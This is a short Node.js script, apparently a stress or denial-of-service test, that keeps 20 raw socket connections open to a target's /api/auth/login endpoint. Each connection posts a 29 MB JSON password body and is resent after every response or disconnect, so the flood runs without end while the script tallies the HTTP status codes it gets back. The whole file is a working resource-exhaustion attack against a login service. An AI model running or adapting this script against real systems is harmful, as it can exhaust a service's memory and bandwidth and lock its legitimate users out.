// Anonymous sign-ins with bodies of 29 MB, 20 at a time, each repeated after a response or a disconnect.
import { connect, target } from "./connections.mjs";

const [atOnce, bytes] = [20, 29_000_000];
const body = Buffer.concat([
  Buffer.from('{"username":"somebody","password":"'),
  Buffer.alloc(bytes, "x"),
  Buffer.from('"}'),
]);
const head =
  `POST /api/auth/login HTTP/1.1\r\nHost: ${target.host}\r\nConnection: close\r\n` +
  `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`;
const answers = {};
let [ended, said] = [0, false];

function send(number) {
  const socket = connect(number);
  let answer = "";
  socket.on("connect", () => {
    socket.write(head);
    socket.write(body);
  });
  socket.on("data", (data) => {
    answer ||= data.toString("latin1").split(" ", 2)[1];
  });
  // The close that follows reports the outcome.
  socket.on("error", () => {});
  socket.on("close", () => {
    answers[answer || "none"] = (answers[answer || "none"] ?? 0) + 1;
    ended += 1;
    if (ended === 3 * atOnce && !said) {
      said = true;
      const tally = Object.entries(answers).map(([status, count]) => `${count} x ${status}`);
      console.log(`${ended} bodies of 29 MB, answered ${tally.join(", ")}`);
    }
    setTimeout(send, 10, number);
  });
}

for (let number = 0; number < atOnce; number++) {
  send(number);
}
